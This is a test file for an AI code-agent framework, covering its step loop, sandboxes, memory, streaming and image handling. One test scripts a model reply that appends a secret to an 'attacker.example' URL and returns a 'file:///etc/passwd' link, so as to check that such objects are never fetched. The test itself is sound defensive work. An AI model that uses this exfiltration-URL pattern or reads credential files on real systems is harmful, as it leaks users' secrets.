/**
 * The agent loop end to end, with ScriptedModel replies and the real Pyodide sandbox.
 */
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { z } from "zod";

import { AgentMemory } from "../src/agents/agent-memory.js";
import { CodeAgent } from "../src/agents/code-agent.js";
import { ToolCallingAgent } from "../src/agents/tool-calling-agent.js";
import type { AgentEvent } from "../src/agents/events.js";
import type { ActionStep } from "../src/agents/memory-steps.js";
import { ModelCallError, ScriptExhaustedError } from "../src/errors.js";
import { PyodideExecutor } from "../src/executors/pyodide/pyodide-executor.js";
import type { ChatMessage, GenerateOptions, Model } from "../src/models/model.js";
import { messageText } from "../src/models/model.js";
import { ScriptedModel } from "../src/models/scripted-model.js";
import { image } from "../src/tools/image.js";
import { tool } from "../src/tools/tool.js";

const prices: Record<string, number> = { apple: 1.25, pear: 2, plum: 0.5 };
const getPrice = tool({
  name: "get_price",
  description: "Price of one fruit, in euros.",
  inputSchema: z.object({ fruit: z.string().describe("Fruit name") }),
  outputSchema: z.number(),
  execute: ({ fruit }) => {
    const price = prices[fruit];
    if (price === undefined) throw new Error(`unknown fruit '${fruit}'`);
    return price;
  },
});

// One sandbox for the whole file: the agents share it and reset it between runs.
let executor: PyodideExecutor;
beforeAll(async () => {
  executor = new PyodideExecutor({ timeoutMs: 2000 });
  await executor.start();
});
afterAll(async () => {
  await executor.close();
  await PyodideExecutor.drainPool();
});

function agentWith(replies: (string | ChatMessage)[], options: Partial<ConstructorParameters<typeof CodeAgent>[0]> = {}) {
  const model = new ScriptedModel(replies);
  const agent = new CodeAgent({ model, tools: [getPrice], executor, ...options });
  return { agent, model };
}

function actionSteps(steps: readonly { type: string }[]): ActionStep[] {
  return steps.filter((step): step is ActionStep => step.type === "action");
}

describe("CodeAgent", () => {
  test("multi-step work carries state between steps and ends with final_answer", async () => {
    const { agent, model } = agentWith([
      "Thought: look up prices.\n<code>\nbasket = {f: get_price(f) for f in ['apple', 'pear']}\nprint(basket)\n</code>",
      "Thought: add them.\n<code>\ntotal = sum(basket.values())\nfinal_answer(total)\n</code>",
    ]);
    const result = await agent.run("What do an apple and a pear cost together?");
    expect(result.state).toBe("success");
    expect(result.output).toBe(3.25);
    const steps = actionSteps(result.steps);
    expect(steps).toHaveLength(2);
    expect(steps[0]!.observations).toContain("{'apple': 1.25, 'pear': 2}");
    expect(steps[0]!.toolCalls.map((call) => call.result)).toEqual([1.25, 2]);
    expect(result.tokenUsage.inputTokens).toBeGreaterThan(0);
    expect(result.durationMs).toBeGreaterThanOrEqual(0);
    // The second request carried the first step's observation.
    const secondRequest = model.calls[1]!.messages.map((message) => messageText(message.content)).join("\n");
    expect(secondRequest).toContain("{'apple': 1.25, 'pear': 2}");
    expect(model.calls[0]!.options?.stopSequences).toContain("</code>");
  });

  test("the system prompt shows the tools as Python stubs and the imports", () => {
    const { agent } = agentWith([]);
    const prompt = agent.systemPrompt();
    expect(prompt).toContain("def get_price(fruit: str) -> float:");
    expect(prompt).toContain("def final_answer(");
    expect(prompt).toContain("statistics");
  });

  test.each([
    ["no code", "I think the answer is 4."],
    ["a syntax error", "<code>\nx = (\n</code>"],
    ["a wrong tool argument", "<code>\nget_price(fruit=3)\n</code>"],
    ["a tool that throws", "<code>\nget_price('durian')\n</code>"],
    ["code that raises", "<code>\n1 / 0\n</code>"],
    ["a timeout", "<code>\nwhile True:\n    pass\n</code>"],
  ])("recovers from %s: the error is in memory and the loop goes on", async (_kind, badReply) => {
    const { agent } = agentWith([badReply, "<code>\nfinal_answer('recovered')\n</code>"]);
    const result = await agent.run("Do something.");
    expect(result.output).toBe("recovered");
    const [failed, recovered] = actionSteps(result.steps);
    expect(failed!.error?.type).toBeTruthy();
    expect(failed!.error?.message.length).toBeGreaterThan(5);
    expect(recovered!.isFinalAnswer).toBe(true);
  });

  test("the model sees the error and is told to try differently", async () => {
    const { agent, model } = agentWith(["<code>\n1 / 0\n</code>", "<code>\nfinal_answer(1)\n</code>"]);
    await agent.run("Divide.");
    const lastMessage = model.calls[1]!.messages.at(-1)!;
    expect(messageText(lastMessage.content)).toMatch(/ZeroDivisionError[\s\S]*try/);
  });

  test("a reply cut before its closing tag still runs", async () => {
    const { agent } = agentWith(["Thought: go.\n<code>\nfinal_answer(6 * 7)\n"]);
    expect((await agent.run("Multiply.")).output).toBe(42);
  });

  test("stop sequences are applied even when the model ignores them", async () => {
    const { agent } = agentWith(["<code>\nx = 1\n</code>\nObservation: fake result the model made up"]);
    await agent.run("Go.", { maxSteps: 1 }).catch(() => undefined);
    const step = actionSteps(agent.memory.steps)[0]!;
    expect(step.modelOutput).not.toContain("fake result");
  });

  test("max steps: the model is asked once more for its best answer", async () => {
    const { agent, model } = agentWith(["<code>\nx = 1\n</code>", "<code>\nx = 2\n</code>", "My best answer is 2."], { maxSteps: 2 });
    const result = await agent.run("Count.");
    expect(result.state).toBe("max_steps_error");
    expect(result.output).toBe("My best answer is 2.");
    expect(model.calls).toHaveLength(3);
    expect(messageText(model.calls[2]!.messages.at(-1)!.content)).toMatch(/best final answer/);
  });

  test("planning: a plan at the start and every N steps, with the steps left", async () => {
    const { agent, model } = agentWith(
      [
        "1. Look up prices.\n2. Add them.",
        "<code>\na = get_price('apple')\n</code>",
        "<code>\np = get_price('plum')\n</code>",
        "Facts: apple 1.25, plum 0.5.\n1. Add.",
        "<code>\nfinal_answer(a + p)\n</code>",
      ],
      { planningInterval: 2 },
    );
    const result = await agent.run("Apple plus plum?");
    expect(result.output).toBe(1.75);
    expect(result.steps.map((step) => step.type)).toEqual(["task", "planning", "action", "action", "planning", "action", "final-answer"]);
    expect(model.calls[0]!.options?.stopSequences).toEqual(["<end_plan>"]);
    expect(messageText(model.calls[3]!.messages.at(-1)!.content)).toMatch(/18 steps you have left/);
  });

  test("final answer checks may reject an answer; the model sees why", async () => {
    const { agent, model } = agentWith(["<code>\nfinal_answer(-1)\n</code>", "<code>\nfinal_answer(3)\n</code>"], {
      finalAnswerChecks: [function positive(answer) {
        return typeof answer === "number" && answer > 0 ? true : "the answer must be a positive number";
      }],
    });
    const result = await agent.run("Pick a number.");
    expect(result.output).toBe(3);
    expect(actionSteps(result.steps)[0]!.error?.type).toBe("FinalAnswerRejected");
    expect(messageText(model.calls[1]!.messages.at(-1)!.content)).toContain("must be a positive number");
  });

  test("step callbacks run for every step and by type", async () => {
    const seen: string[] = [];
    const actions: number[] = [];
    const { agent } = agentWith(["<code>\nx = 1\n</code>", "<code>\nfinal_answer(x)\n</code>"], {
      stepCallbacks: { action: [(step) => void actions.push((step as ActionStep).stepNumber)] },
    });
    await agent.run("Go.");
    expect(actions).toEqual([1, 2]);
    const { agent: other } = agentWith(["<code>\nfinal_answer(1)\n</code>"], { stepCallbacks: [(step) => void seen.push(step.type)] });
    await other.run("Go.");
    expect(seen).toEqual(["action"]);
  });

  test("run(task, { reset: false }) continues the memory and the sandbox state", async () => {
    const { agent, model } = agentWith(["<code>\nsecret = 41\nfinal_answer('stored')\n</code>", "<code>\nfinal_answer(secret + 1)\n</code>"]);
    await agent.run("Store a number.");
    const result = await agent.run("Now add one to it.", { reset: false });
    expect(result.output).toBe(42);
    expect(agent.memory.steps.filter((step) => step.type === "task")).toHaveLength(2);
    const sent = model.calls[1]!.messages.map((message) => messageText(message.content)).join("\n");
    expect(sent).toContain("Store a number.");
  });

  test("a new run resets memory and the sandbox namespace", async () => {
    const { agent } = agentWith(["<code>\nleftover = 1\nfinal_answer(1)\n</code>", "<code>\nfinal_answer('leftover' in dir())\n</code>"]);
    await agent.run("One.");
    const result = await agent.run("Two.");
    expect(result.output).toBe(false);
    expect(agent.memory.steps.filter((step) => step.type === "task")).toHaveLength(1);
  });

  test("additionalArgs become sandbox variables and are named in the task", async () => {
    const { agent, model } = agentWith(["<code>\nfinal_answer(sum(numbers))\n</code>"]);
    const result = await agent.run("Add the numbers.", { additionalArgs: { numbers: [1, 2, 3] } });
    expect(result.output).toBe(6);
    expect(messageText(model.calls[0]!.messages[1]!.content)).toContain("numbers");
  });

  test("images go to the model as image content", async () => {
    const { agent, model } = agentWith(["<code>\nfinal_answer('a cat')\n</code>"]);
    await agent.run("What is in the picture?", { images: [{ type: "image", image: "data:image/png;base64,iVBORw0KGgo=" }] });
    const content = model.calls[0]!.messages[1]!.content;
    expect(Array.isArray(content) && content.some((part) => part.type === "image")).toBe(true);
  });

  test("a model that fails ends the run with its typed error, memory intact", async () => {
    const failing: Model = {
      modelId: "down",
      generate: async () => {
        throw new ModelCallError("server unavailable after 3 retries", { status: 503, retryable: true });
      },
    };
    const agent = new CodeAgent({ model: failing, executor });
    await expect(agent.run("Anything.")).rejects.toBeInstanceOf(ModelCallError);
    expect(agent.memory.steps.map((step) => step.type)).toEqual(["task", "action"]);
    expect(actionSteps(agent.memory.steps)[0]!.error?.type).toBe("ModelCallError");
  });

  test("a run aborted during a model call records the abort in the step, not a model failure", async () => {
    const controller = new AbortController();
    const hanging: Model = {
      modelId: "slow",
      generate: (_messages, options) =>
        new Promise((_resolve, reject) => {
          options?.signal?.addEventListener("abort", () => reject(options.signal!.reason as Error), { once: true });
          controller.abort(new DOMException("stopped by the user", "AbortError"));
        }),
    };
    const agent = new CodeAgent({ model: hanging, executor, streamOutputs: false });
    await expect(agent.run("Anything.", { signal: controller.signal })).rejects.toThrow("stopped by the user");
    expect(actionSteps(agent.memory.steps)[0]!.error?.type).toBe("AbortError");
  });

  test("running out of scripted replies is a clear error", async () => {
    const { agent } = agentWith(["<code>\nx = 1\n</code>"]);
    await expect(agent.run("Go.")).rejects.toBeInstanceOf(ScriptExhaustedError);
  });

  test("stream yields typed events in order, and run agrees with it", async () => {
    const replies = ["Thought.\n<code>\nprint('hello')\nget_price('plum')\n</code>", "<code>\nfinal_answer('done')\n</code>"];
    const { agent } = agentWith(replies);
    const events: AgentEvent[] = [];
    for await (const event of agent.stream("Say hello.")) events.push(event);
    const firstStep = events.slice(0, events.findIndex((event) => event.type === "step-finish") + 1).map((event) => event.type);
    expect(firstStep[0]).toBe("run-start");
    expect(firstStep.slice(1)).toEqual([
      "step-start",
      ...firstStep.filter((type) => type === "model-delta"),
      "model-output",
      "code",
      "tool-call",
      "tool-result",
      "logs",
      "step-finish",
    ]);
    expect(events.at(-2)).toEqual({ type: "final-answer", output: "done" });
    const finish = events.at(-1)!;
    expect(finish.type).toBe("run-finish");
    const { agent: again } = agentWith(replies);
    const result = await again.run("Say hello.");
    if (finish.type === "run-finish") expect(finish.result.output).toBe(result.output);
  });

  test("breaking out of the stream ends the run", async () => {
    const { agent } = agentWith(["<code>\nx = 1\n</code>", "<code>\nx = 2\n</code>", "<code>\nfinal_answer(x)\n</code>"]);
    for await (const event of agent.stream("Go.")) if (event.type === "step-finish") break;
    expect(actionSteps(agent.memory.steps).length).toBeLessThan(3);
  });

  test("memory round-trips through JSON", async () => {
    const { agent } = agentWith(["<code>\nprint(get_price('apple'))\n</code>", "<code>\nfinal_answer('ok')\n</code>"]);
    await agent.run("Price?");
    const loaded = AgentMemory.fromJSON(JSON.stringify(agent.memory));
    expect(loaded.steps).toEqual(JSON.parse(JSON.stringify(agent.memory.steps)));
    expect(loaded.systemPrompt).toBe(agent.memory.systemPrompt);
    expect(() => AgentMemory.fromJSON('{"version": 2}')).toThrow(/not a saved agent memory/);
    let printed = "";
    await loaded.replay({ write: (text) => (printed += text), color: false });
    expect(printed).toContain("print(get_price('apple'))");
    expect(printed).toContain("1.25");
    expect(printed).toContain("ok");
  });

  test("contextBudget condenses older steps, keeping the task and recent steps whole", async () => {
    const noisy = Array.from({ length: 8 }, (_, index) => `<code>\nprint('${"x".repeat(2000)}', ${index})\n</code>`);
    const { agent, model } = agentWith([...noisy, "<code>\nfinal_answer('done')\n</code>"], { contextBudget: 3000 });
    await agent.run("Print a lot.");
    const last = model.calls.at(-1)!.messages;
    const sentText = last.map((message) => messageText(message.content)).join("\n");
    expect(sentText).toContain("Print a lot.");
    expect(sentText).toMatch(/condensed|Summary of earlier steps/);
    // The last three steps are whole.
    expect(sentText).toContain(`${"x".repeat(2000)} 7`);
    const unbounded = agentWith([...noisy, "<code>\nfinal_answer('done')\n</code>"]);
    await unbounded.agent.run("Print a lot.");
    const size = (messages: ChatMessage[]) => messages.reduce((total, message) => total + messageText(message.content).length, 0);
    expect(size(last)).toBeLessThan(size(unbounded.model.calls.at(-1)!.messages) / 2);
  });

  test("without contextBudget, the budget comes from the model's context window; Infinity turns it off", async () => {
    const noisy = Array.from({ length: 8 }, (_, index) => `<code>\nprint('${"x".repeat(2000)}', ${index})\n</code>`);
    const { agent, model } = agentWith([...noisy, "<code>\nfinal_answer('done')\n</code>"]);
    Object.assign(model, { contextWindow: 8_000 });
    expect(agent.contextBudget).toBe(Math.floor((8_000 - 2_000) * 0.9));
    await agent.run("Print a lot.");
    expect(model.calls.at(-1)!.messages.map((message) => messageText(message.content)).join("\n")).toMatch(/condensed|Summary of earlier steps/);
    expect(agentWith([], { contextBudget: Number.POSITIVE_INFINITY }).agent.contextBudget).toBeUndefined();
    expect(agentWith([]).agent.contextBudget).toBeUndefined(); // a scripted model has no window
  });

  test("executor 'monty': the same loop on the Monty sandbox, and the prompt says what it lacks", async () => {
    const model = new ScriptedModel([
      "<code>\ntotal = get_price('apple') + get_price('plum')\nprint(total)\n</code>",
      "<code>\nfinal_answer(total * 2)\n</code>",
    ]);
    const agent = new CodeAgent({ model, tools: [getPrice], executor: "monty" });
    try {
      const result = await agent.run("Twice the price of an apple and a plum?");
      expect(result.output).toBe(3.5);
      expect(agent.systemPrompt()).toMatch(/class/);
    } finally {
      await agent.close();
    }
  });

  test("language 'javascript': the model writes JavaScript, run in QuickJS, tools shown as JSDoc", async () => {
    const model = new ScriptedModel([
      "Thought: prices.\n<code>\nconst apple = get_price({ fruit: 'apple' });\nconst pear = get_price('pear');\nconsole.log(apple, pear);\n</code>",
      "<code>\nconst apple = 0; // declared again, as models do\nfinal_answer(pear * 2);\n</code>",
    ]);
    const agent = new CodeAgent({ model, tools: [getPrice], language: "javascript" });
    try {
      expect(agent.systemPrompt()).toContain("@param");
      expect(agent.systemPrompt()).toContain("JavaScript");
      const result = await agent.run("Twice the price of a pear?");
      expect(result.output).toBe(4);
      expect(actionSteps(result.steps)[0]!.observations).toContain("1.25 2");
    } finally {
      await agent.close();
    }
  });

  test("a sandbox that runs another language is refused clearly", () => {
    expect(() => new CodeAgent({ model: new ScriptedModel([]), executor: "monty", language: "javascript" })).toThrow(/runs python, not javascript/);
  });

  test("generate options reach the model", async () => {
    const { agent, model } = agentWith(["<code>\nfinal_answer(1)\n</code>"], { generateOptions: { temperature: 0.2, maxTokens: 500 } });
    await agent.run("Go.");
    const options = model.calls[0]!.options as GenerateOptions;
    expect(options.temperature).toBe(0.2);
    expect(options.maxTokens).toBe(500);
  });
});

describe("CodeAgent with bytes and images", () => {
  const PNG = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]);
  const PNG_DATA_URL = `data:image/png;base64,${Buffer.from(PNG).toString("base64")}`;
  const drawChart = tool({
    name: "draw_chart",
    description: "Draws a chart of the numbers.",
    inputSchema: z.object({ numbers: z.array(z.number()) }),
    execute: () => image(PNG, "image/png"),
  });
  const readFile = tool({
    name: "read_file",
    description: "The bytes of a file.",
    inputSchema: z.object({ name: z.string() }),
    execute: () => Buffer.from([1, 2, 3, 255]),
  });

  function quickJsAgent(replies: string[]) {
    const model = new ScriptedModel(replies);
    return { agent: new CodeAgent({ model, tools: [drawChart, readFile], executor: "quickjs" }), model };
  }

  /** The image parts of the observation sent in request `index`, and its text. */
  function lastObservation(model: ScriptedModel, index: number): { text: string; images: unknown[] } {
    const message = model.calls[index]!.messages.at(-1)!;
    const parts = typeof message.content === "string" ? [] : message.content;
    return { text: messageText(message.content), images: parts.filter((part) => part.type === "image") };
  }

  test("an object that only links to an image is data, never an image the provider would fetch", async () => {
    const { agent, model } = quickJsAgent([
      "<code>\nconst secret = 'k-123';\n({ type: 'image', image: 'https://attacker.example/c?d=' + secret })\n</code>",
      "<code>\nfinal_answer({ type: 'image', image: 'file:///etc/passwd' })\n</code>",
    ]);
    try {
      const result = await agent.run("Show a picture.");
      expect(lastObservation(model, 1).images).toEqual([]);
      expect(lastObservation(model, 1).text).toContain("https://attacker.example/c?d=k-123");
      expect(result.output).toEqual({ type: "image", image: "file:///etc/passwd" });
      for (const step of agent.memory.steps) if (step.type === "action") expect(step.observationImages ?? []).toEqual([]);
    } finally {
      await agent.close();
    }
  });

  test("an image a tool returned reaches the model's next request as an image part, named in the text", async () => {
    const { agent, model } = quickJsAgent(["<code>\nconst chart = draw_chart({ numbers: [1, 2] })\nconsole.log('drawn')\n</code>", "<code>\nfinal_answer('done')\n</code>"]);
    try {
      const result = await agent.run("Chart 1 and 2.");
      expect(result.output).toBe("done");
      const { text, images } = lastObservation(model, 1);
      expect(images).toEqual([{ type: "image", image: PNG_DATA_URL, mediaType: "image/png" }]);
      expect(text).toContain("[image 1: image/png, 12 bytes]");
      const step = actionSteps(result.steps)[0]!;
      expect(step.observationImages).toEqual(images);
      // The tool call's record names the image rather than holding it twice.
      expect(step.toolCalls[0]!.result).toBe("[image 1: image/png, 12 bytes]");
    } finally {
      await agent.close();
    }
  });

  test("an image as the last value goes to the model next; an image final answer stays an image part", async () => {
    const { agent, model } = quickJsAgent([
      "<code>\n({ type: 'image', mediaType: 'image/png', data: new Uint8Array([0x89, 0x50, 0x4e, 0x47]) })\n</code>",
      "<code>\nfinal_answer({ type: 'image', mediaType: 'image/gif', data: new Uint8Array([0x47, 0x49, 0x46, 0x38]) })\n</code>",
    ]);
    try {
      const result = await agent.run("Make a picture.");
      const { text, images } = lastObservation(model, 1);
      expect(images).toEqual([{ type: "image", image: "data:image/png;base64,iVBORw==", mediaType: "image/png" }]);
      expect(text).toContain("Last output from code snippet:\n[image 1: image/png, 4 bytes]");
      expect(result.output).toEqual({ type: "image", image: new Uint8Array([0x47, 0x49, 0x46, 0x38]), mediaType: "image/gif" });
    } finally {
      await agent.close();
    }
  });

  test("bytes from a tool are a Uint8Array in the code, shown to the model in short", async () => {
    const { agent, model } = quickJsAgent(["<code>\nconst data = read_file({ name: 'a.bin' });\n[data instanceof Uint8Array, data]\n</code>", "<code>\nfinal_answer(data.length)\n</code>"]);
    try {
      const result = await agent.run("How long is a.bin?");
      expect(result.output).toBe(4);
      expect(lastObservation(model, 1).text).toContain('"<4 bytes: 01 02 03 ff>"');
    } finally {
      await agent.close();
    }
  });

  test("memory with images and bytes round-trips through JSON", async () => {
    const { agent } = quickJsAgent(["<code>\nconst chart = draw_chart({ numbers: [1] })\nread_file({ name: 'a' })\n</code>", "<code>\nfinal_answer(read_file({ name: 'b' }))\n</code>"]);
    try {
      const result = await agent.run("Go.", { images: [{ type: "image", image: PNG, mediaType: "image/png" }] });
      expect(result.output).toEqual(new Uint8Array([1, 2, 3, 255]));
      const json = JSON.stringify(agent.memory);
      expect(json).not.toContain('"0":');
      const loaded = AgentMemory.fromJSON(json);
      expect(loaded.steps).toEqual(agent.memory.steps);
      expect(JSON.stringify(loaded)).toBe(json);
    } finally {
      await agent.close();
    }
  });

  test("ToolCallingAgent: an image a tool returned is stored by name and reaches the model next, as an image part", async () => {
    const model = new ScriptedModel([
      { role: "assistant", content: "", toolCalls: [{ id: "call_1", name: "draw_chart", arguments: { numbers: [1] } }] },
      { role: "assistant", content: "", toolCalls: [{ id: "call_2", name: "final_answer", arguments: { answer: "result_1_1" } }] },
    ]);
    const agent = new ToolCallingAgent({ model, tools: [drawChart] });
    const result = await agent.run("Chart it.");
    const { text, images } = lastObservation(model, 1);
    expect(images).toEqual([{ type: "image", image: PNG_DATA_URL, mediaType: "image/png" }]);
    expect(text).toContain("[image 1: image/png, 12 bytes], stored as 'result_1_1'");
    expect(result.output).toEqual({ type: "image", image: PNG, mediaType: "image/png" });
    const loaded = AgentMemory.fromJSON(JSON.stringify(agent.memory));
    expect(loaded.steps).toEqual(agent.memory.steps);
  });
});
